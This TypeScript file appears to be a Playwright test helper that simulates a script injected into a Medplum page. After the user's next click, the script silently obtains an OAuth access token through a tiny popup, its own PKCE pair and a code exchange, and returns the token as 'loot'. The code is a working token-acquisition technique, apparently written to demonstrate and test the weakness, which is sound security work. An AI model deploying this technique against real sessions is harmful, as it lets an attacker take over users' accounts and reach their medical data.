import type { Page } from '@playwright/test';

/** What a script that slipped into a page came away with. */
export type Loot = Readonly<{ accessToken: string | undefined; why: string }>;

export type Target = Readonly<{ authorizeUrl: string; tokenUrl: string; clientId: string; redirectUri: string }>;

type Pkce = Readonly<{ codeVerifier: string; codeChallenge: string }>;

/**
 * Runs the attacker's script in a page, as it would come with a dependency. It steals no token. It makes one of its own, in
 * the way in which every browser app gets its first (RFC 10017, "Acquisition and Extraction of New Tokens"), and it needs
 * the user for nothing but one click, whatever that is meant for.
 *
 * Each function that `evaluate` takes runs in the page, with the rights of the page.
 *
 * @returns What waits for the click and for the loot. The script is listening when this resolves.
 */
export async function injectScript(page: Page, target: Target): Promise<() => Promise<Loot>> {
  const { authorizeUrl, tokenUrl, clientId, redirectUri } = target;
  const { codeVerifier, codeChallenge } = await page.evaluate(makeOwnPkce);

  const silentRequest = new URLSearchParams({
    response_type: 'code',
    client_id: clientId,
    redirect_uri: redirectUri,
    scope: 'openid',
    // The server shows no page. Its cookie tells it who the user is.
    prompt: 'none',
    code_challenge: codeChallenge,
    code_challenge_method: 'S256',
  });
  const url = `${authorizeUrl}?${silentRequest}`;
  const waiting = await page.evaluateHandle(openInNextClick, { url, redirectUri });

  return async () => {
    const code = await waiting.evaluate((opened) => opened.code);
    return code
      ? page.evaluate(redeem, { tokenUrl, clientId, redirectUri, code, codeVerifier })
      : { accessToken: undefined, why: `No code came back to ${redirectUri}` };
  };
}

/** PKCE binds the code to whoever began the flow, and that is the script. */
async function makeOwnPkce(): Promise<Pkce> {
  const base64Url = (bytes: Uint8Array): string =>
    btoa(String.fromCodePoint(...bytes))
      .replaceAll('+', '-')
      .replaceAll('/', '_')
      .replaceAll('=', '');
  const codeVerifier = base64Url(crypto.getRandomValues(new Uint8Array(32)));
  const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(codeVerifier));
  return { codeVerifier, codeChallenge: base64Url(new Uint8Array(digest)) };
}

/** Medplum refuses to be framed, but browsers let a click open a window. It comes back to the app's own origin. */
function openInNextClick({ url, redirectUri }: { url: string; redirectUri: string }): { code: Promise<string | null> } {
  const clicked = new Promise<Window | null>((resolve) => {
    const open = (): void => resolve(window.open(url, '_blank', 'popup,width=1,height=1'));
    document.addEventListener('click', open, { once: true, capture: true });
  });
  const addressOf = (popup: Window): string => {
    try {
      // With which the window was loaded: the app may have replaced it since.
      return popup.performance.getEntriesByType('navigation')[0]?.name ?? '';
    } catch {
      // It is at another origin yet.
      return '';
    }
  };
  const readCode = async (popup: Window): Promise<string | null> => {
    const address = addressOf(popup);
    if (popup.closed || address.startsWith(redirectUri)) {
      popup.close();
      return address ? new URL(address).searchParams.get('code') : null;
    }
    await new Promise((resolve) => setTimeout(resolve, 10));
    return readCode(popup);
  };
  return { code: clicked.then((popup) => popup && readCode(popup)) };
}

/** Medplum sees what it sees in every sign-in: a public client, a good code, and the verifier that fits. */
async function redeem({
  tokenUrl,
  clientId,
  redirectUri,
  code,
  codeVerifier,
}: Omit<Target, 'authorizeUrl'> & Readonly<{ code: string; codeVerifier: string }>): Promise<Loot> {
  const body = new URLSearchParams({
    grant_type: 'authorization_code',
    client_id: clientId,
    redirect_uri: redirectUri,
    code,
    code_verifier: codeVerifier,
  });
  const response = await fetch(tokenUrl, { method: 'POST', body });
  const tokens = (await response.json()) as { access_token?: string };
  return { accessToken: tokens.access_token, why: `The token endpoint answered ${response.status}` };
}
